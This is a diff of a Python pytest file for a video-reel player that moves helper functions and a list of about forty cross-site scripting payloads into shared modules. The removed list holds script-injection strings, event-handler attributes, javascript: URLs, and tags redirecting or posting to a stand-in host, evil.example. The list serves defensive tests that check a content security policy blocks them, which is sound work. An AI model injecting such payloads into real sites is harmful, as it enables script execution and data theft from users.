@@ -10,8 +10,9 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from browsing import Visit, browser, laid_out, served, until, visit, worded
+from browsing import Visit, browser, laid_out, quiet, served, skeleton, starts, until, visit, worded
 from conftest import ffmpeg
+from payloads import PAYLOADS
 from taken import ANNA, BERT, SAID, build, clip_of, finished_of, reel_of
 
 from reelmaker.model import Count, Part
@@ -25,21 +26,6 @@ LOOKS: dict[str, dict[str, Any]] = {
     "small phone in the dark": {"viewport": {"width": 320, "height": 568}, "color_scheme": "dark"},
     "tablet": {"viewport": {"width": 820, "height": 1180}},
 }
-PAYLOADS = [
-    "<script>window.pwned=1</script>", "</script><script>window.pwned=1</script>", "</style><script>window.pwned=1</script>",
-    "<img src=x onerror=window.pwned=1>", "<svg/onload=window.pwned=1>", "<svg><script>window.pwned=1</script></svg>",
-    '"><script>window.pwned=1</script>', "'><script>window.pwned=1</script>", '" onmouseover="window.pwned=1', "' onfocus='window.pwned=1' autofocus='",
-    '" autofocus onfocus="window.pwned=1" x="', "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<iframe src=javascript:parent.pwned=1>",
-    "javascript:window.pwned=1", "<a href=javascript:window.pwned=1>x</a>", "<!-- --><script>window.pwned=1</script><!--", "<!--<script>", "--><img src=x onerror=window.pwned=1>",
-    "<![CDATA[<script>window.pwned=1</script>]]>", "<textarea></textarea><script>window.pwned=1</script>", "</textarea><script>window.pwned=1</script>",
-    "</title><script>window.pwned=1</script>", "<video><source onerror=window.pwned=1></video>", "<details open ontoggle=window.pwned=1>",
-    "<body onload=window.pwned=1>", "<math><mtext></p><script>window.pwned=1</script></math>", "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=0;url=https://evil.example/>", "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>*{display:none}</style>", "<form action=https://evil.example/><button>x</button></form>", "<object data=https://evil.example/x></object>",
-    "${window.pwned=1}", "$policy $script $$ ${data}", "`${window.pwned=1}`", "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
-    "&lt;script&gt;window.pwned=1&lt;/script&gt;", "\u2028window.pwned=1\u2029//", "</p></li></ol></main><h1>x</h1>", '"}]};window.pwned=1;//',
-    "<v Mallory>x</v><c.red>y</c><00:00:01.000>", "<ruby>a<rt>b</rt></ruby> --> 00:00:01.000 --> 00:00:02.000", "\u202e<b>x</b>\u202c",
-]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -84,15 +70,6 @@ def index(talk: Finished, tmp_path_factory: pytest.TempPathFactory) -> Path:
 def beside(talk: Finished, tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The same with captions that are not in the picture."""
     return laid_out(replace(talk, burned=False), tmp_path_factory.mktemp("beside") / "checkout")
-
-
-def quiet(seen: Visit) -> bool:
-    """Nothing was refused, nothing went wrong, nobody was asked anything."""
-    return not seen.violations() and not seen.complaints and not seen.dialogs
-
-
-def starts(finished: Finished) -> list[float]:
-    return [place.first_frame / place.fps for place in finished.reel.places()][1:-1]
 
 
 def test_it_plays_and_jumps_from_the_disk_and_asks_for_nothing_else(
@@ -288,13 +265,6 @@ def test_planted_scripts_and_handlers_are_refused(chromium: Any, index: Path, tm
         assert len(away) == 2 and {seen.refused.get(address) for address in away} == {"csp"}, (
             "nothing is sent"
         )
-
-
-def skeleton(seen: Visit) -> Any:
-    """Every element with the names of its attributes, in order."""
-    return seen.page.evaluate(
-        "Array.from(document.querySelectorAll('*'), e => [e.tagName, ...Array.from(e.attributes, a => a.name)])"
-    )
 
 
 def test_forty_payloads_do_nothing(chromium: Any, finished: Finished, tmp_path: Path) -> None:
